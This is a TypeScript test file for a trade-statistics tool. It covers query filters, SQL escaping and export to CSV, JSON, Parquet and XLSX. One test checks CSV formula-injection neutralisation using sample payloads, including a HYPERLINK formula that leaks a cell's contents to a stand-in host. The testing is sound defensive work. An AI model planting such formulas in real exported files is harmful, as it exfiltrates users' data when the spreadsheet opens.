import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvExportField, parseCsvText } from './csv.ts';
import { exportQuery, formatFromFileName } from './export.ts';
import { referenceDataHooks } from './first-use.ts';
import { FLOW_QUERY_COLUMNS, FlowQuery, flowQuerySql } from './flow-query.ts';
import { importComtrade } from './importers/comtrade.ts';
import { importGacc } from './importers/gacc.ts';
import { openStore, type Store, sqlLiteral } from './store.ts';

const dir = mkdtempSync(join(tmpdir(), 'amur-export-test-'));
let store: Store;
beforeAll(async () => {
  store = await openStore(':memory:', { hooks: referenceDataHooks });
  await importComtrade(
    store,
    fileURLToPath(new URL('./importers/fixtures/comtrade-v1-traps.csv', import.meta.url)),
  );
});
afterAll(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

const q = (o: unknown) => flowQuerySql(FlowQuery.parse(o));

describe('flow queries', () => {
  it('filters by reporter, flow, period and commodity prefix', async () => {
    const codes = async (o: unknown) =>
      (await store.query<{ row_no: number }>(q(o))).map((r) => r.row_no).sort((a, b) => a - b);
    expect(await codes({})).toEqual([2, 3, 4, 5, 10]);
    expect(await codes({ reporter: ['CHN'] })).toEqual([2, 3, 10]);
    expect(await codes({ reporter: ['CHN'], flow: ['export', 're-export'] })).toEqual([3, 10]);
    expect(await codes({ period: '2018-03' })).toEqual([5]);
    expect(await codes({ year: '2017-2018' })).toEqual([2, 3, 4, 5, 10]);
    expect(await codes({ commodity: ['27*'] })).toEqual([3]);
    expect(await codes({ commodity: ['total'] })).toEqual([2, 10]);
    expect(await codes({ level: 'group' })).toEqual([]);
    expect(await codes({ partner: ['CT-899'] })).toEqual([5]);
  });

  it('inlines values safely', () => {
    expect(q({ source: ["it's"] })).toContain("source_id = 'it''s'");
  });
});

describe('exports', () => {
  const sql = () => q({ reporter: ['CHN'] });

  it('writes CSV, JSON and Parquet with the same rows', async () => {
    expect(await exportQuery(store, sql(), 'csv', join(dir, 'a.csv'))).toBe(3);
    const csv = parseCsvText(readFileSync(join(dir, 'a.csv'), 'utf8'));
    // ordered by source, reporter, partner, year, month, flow: export < import < re-export
    expect(csv.map((r) => r.value_usd)).toEqual(['1200.0', '5000.5', '7.0']);
    expect(await exportQuery(store, sql(), 'json', join(dir, 'a.json'))).toBe(3);
    const json = JSON.parse(readFileSync(join(dir, 'a.json'), 'utf8')) as { commodity_code: string }[];
    expect(json.map((r) => r.commodity_code)).toEqual(['270900', 'TOTAL', 'TOTAL']);
    expect(await exportQuery(store, sql(), 'parquet', join(dir, 'a.parquet'))).toBe(3);
    const back = await store.query<{ n: number; s: number }>(
      `SELECT count(*) AS n, sum(value_usd) AS s FROM read_parquet('${join(dir, 'a.parquet')}')`,
    );
    expect(back).toEqual([{ n: 3, s: 6207.5 }]);
  });

  it('writes XLSX with a header row', async () => {
    const file = join(dir, 'a.xlsx');
    expect(await exportQuery(store, sql(), 'xlsx', file)).toBe(3);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.getWorksheet('flows');
    expect(ws?.rowCount).toBe(4);
    expect(ws?.getRow(1).getCell(1).value).toBe('source_id');
    expect(ws?.getRow(2).getCell(12).value).toBe('270900');
  });

  it('neutralises CSV cells a spreadsheet would evaluate (OWASP), leaving numbers and XLSX alone', async () => {
    const evil = [
      '=HYPERLINK("http://x.example/?leak="&A1,"click")',
      '+1+2',
      '-2+3',
      '@SUM(A1)',
      '\tTAB',
      '\rCR',
      'plain, with comma',
      '-6',
    ];
    const sqlEvil = `SELECT * FROM (VALUES ${evil.map((e, i) => `(${i}, ${sqlLiteral(e)}, -${i}.5)`).join(', ')}) t(n, label, v) ORDER BY n`;
    const file = join(dir, 'evil.csv');
    expect(await exportQuery(store, sqlEvil, 'csv', file)).toBe(evil.length);
    const rows = parseCsvText(readFileSync(file, 'utf8'));
    expect(rows.map((r) => r.label)).toEqual([
      `'${evil[0]}`,
      "'+1+2",
      "'-2+3",
      "'@SUM(A1)",
      "'\tTAB",
      "'\rCR",
      'plain, with comma',
      '-6',
    ]);
    expect(rows[1].v).toBe('-1.5');
    expect(csvExportField('=1+1')).toBe("'=1+1");
    expect(csvExportField(-3)).toBe('-3');
    expect(csvExportField('-3.5')).toBe('-3.5');
    expect(csvExportField('-3+cmd')).toBe("'-3+cmd");
    const xlsx = join(dir, 'evil.xlsx');
    await exportQuery(store, sqlEvil, 'xlsx', xlsx);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    const cell = wb.getWorksheet('flows')?.getRow(2).getCell(2);
    expect(cell?.value).toBe(evil[0]);
    expect(cell?.formula).toBeUndefined();
  });

  it('writes the trade mode (general, border-petty …) as the last column of CSV and XLSX, empty for all modes', async () => {
    const gacc = await importGacc(
      store,
      fileURLToPath(new URL('./importers/fixtures/gacc-exports-by-province-2022.csv', import.meta.url)),
      { flow: 'export' },
    );
    expect(FLOW_QUERY_COLUMNS.at(-1)).toBe('trade_mode');
    const modes = q({ source: [gacc.sourceId] });
    const csvFile = join(dir, 'modes.csv');
    expect(await exportQuery(store, modes, 'csv', csvFile)).toBe(6);
    const text = readFileSync(csvFile, 'utf8');
    expect(text.split('\n')[0].split(',').at(-1)).toBe('trade_mode');
    const csv = parseCsvText(text);
    expect(csv.map((r) => r.trade_mode).sort()).toEqual([
      'border-petty',
      'border-petty',
      'border-petty',
      'general',
      'general',
      'general',
    ]);
    const xlsxFile = join(dir, 'modes.xlsx');
    expect(await exportQuery(store, modes, 'xlsx', xlsxFile)).toBe(6);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsxFile);
    const ws = wb.getWorksheet('flows')!;
    const last = FLOW_QUERY_COLUMNS.length;
    expect(ws.getRow(1).getCell(last).value).toBe('trade_mode');
    const xlsxModes = [2, 3, 4, 5, 6, 7].map((i) => ws.getRow(i).getCell(last).value);
    expect(xlsxModes).toEqual(csv.map((r) => r.trade_mode));
    // a source without trade modes: the column is there, empty
    const comtrade = parseCsvText(readFileSync(join(dir, 'a.csv'), 'utf8'));
    expect(comtrade.map((r) => r.trade_mode)).toEqual(['', '', '']);
  });

  it('knows formats by file name', () => {
    expect(['x.CSV', 'x.xlsx', 'x.json', 'x.parquet', 'x.txt'].map(formatFromFileName)).toEqual([
      'csv',
      'xlsx',
      'json',
      'parquet',
      null,
    ]);
  });
});
